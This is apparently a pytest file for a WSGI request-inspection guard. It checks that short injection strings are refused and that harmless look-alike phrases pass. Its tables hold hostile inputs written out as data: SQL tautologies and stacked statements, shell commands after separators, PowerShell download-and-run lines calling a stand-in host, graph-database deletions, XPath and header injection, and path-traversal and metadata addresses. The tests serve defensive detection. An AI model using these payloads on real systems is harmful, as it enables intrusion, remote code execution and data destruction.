"""Attacks of a few words in a plain parameter: conditions, statements, commands, queries of graphs."""

# ruff: noqa: E501  (tables: one row a kind reads better than the rows broken)
from __future__ import annotations

import gzip
import json
import zlib
from itertools import product
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Inspection
from tests.detection.requests import environ

FORM = "application/x-www-form-urlencoded"

KINDS = {
    "typed literal": [f"{n} or {literal}" for n, literal in product((1, 42), ("e'a'='a'", "n'a'=n'a'", "x'61'='a'", "u&'\\0061'='a'", "q'[a]'='a'", "$$a$$=$$a$$", "_utf8'a'='a'", "b'1'", "date'2020-01-01'>'1'"))],
    "operand that is no word": [f"{n} {word} {operand}" for n, word, operand in product((3,), ("or", "and", "xor", "||", "&&"), ("~1", "!0", ".5", "0xff", "pi()", "now()", "@a", "id=id", "u.id=u.id", "strcmp(1,2)", "(1,2)=(1,2)"))],
    "number and number": ["1 or 1", "7 or 7", "-1 or 5", "1||1", "4 && 4", "1^(1=1)", "1)or(1", "(2)or(2)", "1 or(1)", '1 or"a"', "9 || true", "1 OR x=x-- "],
    "pattern": ["1 rlike 1", "5 regexp '.'", "1 sounds like 1", "'like'%", "' ilike '%", "' similar to '%", "'glob'*", "x' not like '_%", '"like"%', "bob'like'b%"],
    "statement": [f"{start};{blank}{rest}" for start, blank, rest in product(("1", "x'", "2)"), ("", " "), ("truncate t", "vacuum", "call sys.x()", "set @a=1", "flush privileges", "handler users open", "attach database 'x.php' as x", "drop trigger t", "prepare p from 'select 1'", "commit"))],
    "program behind a separator": [f"{mark}{blank}{run}" for mark, blank, run in product((";", "&&", "||"), ("", " "), ("rm x", "mv a b", "sudo id", "nc host 80", "telnet host", "git pull", "kill 1", "make", "./x", ". /tmp/x", "xargs id", "timeout 5 id", "trap id EXIT", "mysql -e x", "del x", "calc", "gci"))],
    "program behind a bar or an ampersand": ["| telnet host 80", "|nc host 80", "| rm x", "& calc", "& del x", "& start calc", "& copy a b", "& echo x > y", "^&dir", "&cmd /c x"],
    "program behind its target": [f"{target}{mark}{run}" for target, mark, run in product(("127.0.0.1", "shop.example.com", "a.txt", "x"), (";", "; ", "|", "&&", " || "), ("rm x", "nc host 80", "sudo id", "git pull"))],
    "program in a line of its own": [f"{start}\n{run}" for start, run in product(("", "127.0.0.1", "x"), ("rm a", "nc host 80", "git pull"))],
    "PowerShell": ["iex(iwr e.vil)", "IEX (irm http://e.vil/x.ps1)", "iwr e.vil|iex", "&(gcm i*x)", "(iwr e.vil).content", "< /etc/hosts"],
    "graph": ["MATCH (n) DETACH DELETE n", "match (a)-[r]->(b) delete r", "' RETURN n UNION MATCH (m:User) RETURN m//", "'}) RETURN n //", "LOAD CSV FROM 'http://e.vil' AS x RETURN x", "CALL dbms.procedures()", "MERGE (n:Admin {name:'x'})", "UNWIND range(1,2) AS x RETURN x", "g.V().drop()", "g.V(1).properties()", "').iterate();g.V().drop()", "g.addV('user').property('admin',true)"],
    "document store": ['{"$lookup":{"from":"users"}}', '{"$out":"x"}', '{"$merge":{"into":"x"}}', 'EVAL "return 1" 0', "CONFIG GET *"],
    "XPath": ["'] | //user/*[1]|a['", "')] | //node()[('", '"] | //password | a["', "' | //user/*[1]|a['"],
    "end of a condition": ["1 or 2#", "1 or 2-- ", "1 or not 2", "7 and not 8", "1 or 1 limit 1", "1 or /*+ hint */ true", " AND 50=CONVERT(INT,(SELECT CHAR(88)))", "|| 1==1"],
    "signal behind a word": ["foo; kill 1", "foo && kill -9 1", "shop; halt", "a.txt; touch x", "foo || reboot", "foo; shutdown now"],
    "command between two line breaks": ["\\n/bin/ls -al\\n", "\\nid;", ";id\\n", "|usr/bin/id\\n", "'\n/bin/ls -al\n'"],
    "command of Windows": ["| type %SYSTEMROOT%\\repair\\SYSTEM", '; reg add "HKLM\\System\\x" /v a /d 0', "Invoke-WebRequest http://e.vil/x.ps1", "Invoke-Expression -Command x.ps1", "; regedit /E c:\\ads\\file.txt:x.reg HKEY_CURRENT_USER\\X"],
    "change of a table": ["ALTER TABLE `a` ADD `b` TEXT CHARACTER SET latin1", "'create user name identified by 'pass123' --", "password::int", "x(1)::double precision"],
    "address of a cloud's metadata": ["http://metadata.google.internal/computeMetadata/v1beta1/project/", "http://127.0.0.1:2375/v1.24/containers/json"],
    "pieces of a program": ["process[req.query.a", "( string ) \"sys\".\"t\".\"em\" ('uname');", '{"a": "$7:Module:prototype"}', "/usr/bin/perl -e 'print readline' a.txt", "c99 -wrapper sh,-c,id ."],
    "address of IPv4 within IPv6": ["http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/a", "http://[0:0:0:0:0:ffff:7f00:1]/", "http://[::127.0.0.1]/", "http://[::ffff:10.0.0.5]/"],
}  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_a_short_attack_is_refused(inspection: Inspection, kind: str) -> None:
    for text in KINDS[kind]:
        for name in ("q", "file", "next"):
            assert inspection.head(environ(query=f"page=2&{name}=" + quote(text, safe=""))), text
        form = b"lang=en&name=" + quote(text, safe="").encode()
        assert inspection.body(form, content_type=FORM), text
        document = json.dumps({"n": 7, "name": text}).encode()
        assert inspection.body(document, content_type="application/json"), text


@pytest.mark.parametrize(
    "text",
    [
        *("Tom or 1 of us", "1 or 2", "3 or 4 bedrooms", "5 or more", "2 and a half", "1 and 1", "7 or so", "4 or (better) 5"),
        *("rm x; done", "make; it works", "; and so on", "Tom; make sure that it works", "git; ssh keys", "php\ngit\nmysql"),
        *("Tom & Jerry", "R & D", "Al & Ed", "Q&A", "& more", "&copy; 2024 Acme", "fish & chips", "Marks & Spencer", "salt & vinegar & time"),
        *("| Name | Price |", "a | b", "1|2|3", "x || y", "tea; sort by price"),
        *("It's like 'that'", "I'd like 'em", "'like' button", "the 'like' count", "1; call mom", "2; set the table", "begin; then go", "no. 1; use it"),
        *("match (football)", "Match (n.) a game", "merge (the) lists", "call me", "return n", "unwind and relax", "the g.v. value", "e.g. V(x)"),
        *("http://[2001:db8::1]/", "//book | //cd", "config get started", "evaluate \"return\" policies", "iex stock exchange"),
        *("18 CREATE GOLD", "DANCIN' LIKE A ROBOT ON FIRE", '"///', 'XSERVING"; ";PLATTER"; ";VINTAGE";', "shop.example'*" + "'" * 30),
        *("from memory", "process [required]", "tea or not 2 late", "stop; think", "we reg add you", "alter table seating", "std::vector", "a::b"),
        *("St. Mary; Ed", "3.5; 4.0", "a/b; c/d", "text/html; q=0.9", "v1.2 | changes"),
    ],
)  # fmt: skip
def test_what_is_written_with_the_same_words_passes(inspection: Inspection, text: str) -> None:
    assert not inspection.head(environ(query="q=" + quote(text, safe="")))
    for name in ("title", "comment"):
        assert not inspection.body(
            f"lang=en&{name}={quote(text, safe='')}".encode(), content_type=FORM
        )
        document = json.dumps({"n": 7, name: text}).encode()
        assert not inspection.body(document, content_type="application/json")


@pytest.mark.parametrize("query", ["a%0d%0aX-A:%201=1", "b=2&%0d%0restofdata", "a%0D%0ASet-Cookie"])
def test_a_line_break_in_the_name_of_a_parameter_is_refused(
    inspection: Inspection, query: str
) -> None:
    assert inspection.head(environ(query=query))


@pytest.mark.parametrize("name", ["mosConfig_absolute_path", "_CONF[path]", "GLOBALS[x]"])
def test_a_variable_of_an_old_program_is_refused(inspection: Inspection, name: str) -> None:
    assert inspection.head(environ(query=f"{quote(name)}=https://a.example"))


@pytest.mark.parametrize("header", ["HTTP_IF_NONE_MATCH", "HTTP_IF_MATCH", "HTTP_IF_RANGE"])
def test_an_entity_tag_is_no_path(inspection: Inspection, header: str) -> None:
    for value in ("../../../../etc/passwd", '"../../etc/passwd"', "/etc/passwd"):
        assert inspection.head(environ(**{header: value})), value
    for value in ('W/"67ab43-54-1b2c3d"', '"a/b+c=="', "*", '"x", "y"', "d41d8cd98f00b204e9800998"):
        assert not inspection.head(environ(**{header: value})), value


def test_a_client_names_what_it_runs_on(inspection: Inspection) -> None:
    assert not inspection.head(environ(HTTP_USER_AGENT="sendgrid/6.12.5;python"))


ATTACK = b'{"q": "1\' UNION SELECT password FROM users-- "}'
HARMLESS = b'{"q": "green tea", "n": 2}'


def gz(body: bytes) -> bytes:
    return gzip.compress(body, mtime=0)


PACKED = {
    "gzip with zlib data": ("gzip", zlib.compress),
    "deflate with gzip data": ("deflate", gz),
    "two codings, one layer": ("gzip, gzip", gz),
    "one coding, two layers": ("gzip", lambda body: gz(gz(body))),
    "a parameter": ("gzip;q=1", gz),
    "identity": ("identity", gz),
    "no coding": ("", gz),
    "no coding, zlib data": ("", zlib.compress),
}


@pytest.mark.parametrize("case", PACKED)
@pytest.mark.parametrize("kind", ["application/json", "text/plain", FORM])
def test_a_body_is_unpacked_as_its_first_bytes_say(
    inspection: Inspection, case: str, kind: str
) -> None:
    """Libraries that unpack go by the header or by the data."""
    coding, pack = PACKED[case]
    assert inspection.body(pack(ATTACK), content_type=kind, content_encoding=coding)
    if kind != FORM:  # no client packs a form, and compressed data has any characters
        assert not inspection.body(pack(HARMLESS), content_type=kind, content_encoding=coding)


def test_a_body_that_is_not_what_its_coding_says_is_a_finding(inspection: Inspection) -> None:
    junk = bytes(range(1, 9)) * 40
    for coding in ("gzip", "deflate", "gzip, deflate"):
        (found,) = inspection.body(junk, content_type="text/plain", content_encoding=coding)
        assert found.indicators == ("unread_value",)
    # Text is weighed as it is; data without a reading here, and files, pass.
    for body, kind, coding in (
        (HARMLESS, "application/json", "gzip"),
        (junk, "text/plain", "br"),
        (junk, "application/octet-stream", "gzip"),
    ):
        assert not inspection.body(body, content_type=kind, content_encoding=coding)
